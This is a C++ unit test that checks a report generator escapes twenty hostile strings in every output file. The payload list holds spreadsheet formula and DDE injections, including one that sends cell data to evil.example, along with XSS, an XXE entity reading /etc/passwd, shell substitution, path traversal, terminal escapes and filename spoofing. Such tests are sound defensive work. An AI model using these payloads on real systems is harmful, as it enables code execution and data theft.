// SPDX-License-Identifier: GPL-3.0-or-later
// Twenty hostile texts, as words of a document, file name, title, section, client and brand, in everything that is
// written: they stay texts.
#include <doctest/doctest.h>
#include <unistd.h>

#include <array>
#include <cstdlib>
#include <filesystem>
#include <string>
#include <string_view>

#include "assessment/assess.h"
#include "base/file.h"
#include "base/json.h"
#include "report/deliverables.h"
#include "report/summary_text.h"
#include "tests/report/fixture.h"

namespace policygap::report {
namespace {

using namespace std::string_view_literals;

constexpr std::array kPayloads = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"sv,
    "=cmd|' /C calc'!A0"sv,
    "+1+1+cmd|'/C calc'!A0"sv,
    "-2+3+cmd|'/C calc'!A0"sv,
    "@SUM(1+1)*cmd|'/C calc'!A0"sv,
    "\t=1+1"sv,
    "\r=1+1"sv,
    "text;=1+1;\"=2+2\",=3+3"sv,
    "＝1＋1"sv,
    "_x003D_1+1 _x0009_"sv,
    "<script>alert(1)</script>"sv,
    "\"><img src=x onerror=alert(1)>"sv,
    "</style></script><svg onload=alert(1)>"sv,
    "{{{client_name}}} {{#t}}x{{/t}} {client, plural, other {#}}"sv,
    "javascript:alert(1) [x](javascript:alert(1)) http://evil.example/"sv,
    "</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\calc.exe</w:instrText></w:r>"sv,
    "]]> &xxe; <!ENTITY x SYSTEM \"file:///etc/passwd\"> &#x3C;b&#x3E;"sv,
    "\x1b]0;title\x07\x1b[31mred\x1b[2J"sv,
    "\xE2\x80\xAEgnp.exe\xE2\x80\x8B \xEF\xBB\xBF\xE2\x80\xA8 \0 null"sv,
    "\\url{file:///etc/passwd} $(touch /tmp/x) `id` ../../../etc/passwd \xFF\xFE"sv,
};

std::vector<assessment::JudgedDocument> hostile_documents() {
  std::vector<assessment::JudgedDocument> documents;
  const auto& categories = fixture::catalogue().categories;
  const auto& topics = fixture::catalogue().topics;
  for (std::size_t index = 0; index < kPayloads.size(); ++index) {
    const std::string payload(kPayloads[index]);
    assessment::JudgedDocument document;
    document.path = payload + std::to_string(index) + ".pdf";
    document.title = payload;
    document.date = payload;
    document.kind = "communication-policy";
    document.language = text::Language::sv;
    document.word_count = 100;
    document.mentions_communication = true;
    document.copies = {payload};
    auto finding = fixture::finding(categories[index].id, payload + " Medarbetare får inte " + payload,
                                    matching::Severity::high, 1, payload, {{"får inte", "how"}});
    finding.lead = payload;
    finding.before = payload;
    document.found.findings = {finding};
    document.found.strengths = {
        fixture::strength(topics[index].id, "Alla är välkomna att skriva " + payload + " här.", 1, payload)};
    document.found.channels = {{"linkedin", "banned", false, payload, finding.place}};
    if (index % 5 == 0) {
      document.status = extractors::Status::partial;
      document.problems = {{"damaged", payload, {1}}};
    }
    documents.push_back(document);
  }
  return documents;
}

TEST_CASE("twenty hostile texts stay texts in everything that is written") {
  const std::string directory = "/tmp/policygap-hostile-" + std::to_string(getpid());
  std::filesystem::create_directory(directory);
  const std::string all = std::string(kPayloads[10]) + std::string(kPayloads[15]) + std::string(kPayloads[17]);
  const auto assessment = assessment::assess(hostile_documents(), {{std::string(kPayloads[1]), "skipped_type"}},
                                             fixture::catalogue(), {"public", ""});
  ReportInfo info;
  info.generated_at = "2026-11-22";
  info.client = all;
  info.brand.name = all;
  info.brand.footer = all;
  info.facts.sector = all;
  info.facts.channels = {all};
  const ReportContext context{assessment, fixture::catalogue(), info};
  std::string word_files;
  for (const Deliverable& deliverable : deliverables()) {
    if (deliverable.what == "charts/") continue;
    CAPTURE(deliverable.what);
    const auto written = deliverable.hand_to(context, [&](const OutputFile& file) {
      std::filesystem::create_directories(std::filesystem::path(directory + "/" + file.path).parent_path());
      if (file.path.ends_with(".docx")) word_files += " " + directory + "/" + file.path;
      return write_file(directory + "/" + file.path, file.bytes);
    });
    REQUIRE_MESSAGE(written.has_value(), written.error().message);
  }
  CHECK(parse_json(*read_file(directory + "/report.json")).has_value());
  CHECK(std::system(("/usr/bin/python3 tests/report/check_docx.py" + word_files + " >&2").c_str()) == 0);
  CHECK(std::system(("/usr/bin/python3 tests/report/check_xlsx.py " + directory + "/findings.xlsx " +
                     std::to_string(assessment.findings.size()) + " >&2")
                        .c_str()) == 0);
  CHECK(std::system(("/usr/bin/python3 tests/report/check_active.py " + directory + " >&2").c_str()) == 0);
  const std::string terminal = to_summary_text(assessment, fixture::catalogue(), info, {all}, false);
  for (const char byte : terminal) {
    const bool is_control = static_cast<unsigned char>(byte) < 0x20 && byte != '\n';
    REQUIRE_FALSE(is_control);
  }
  CHECK(terminal.find("\xE2\x80\xAE") == std::string::npos);
  std::filesystem::remove_all(directory);
}

}  // namespace
}  // namespace policygap::report
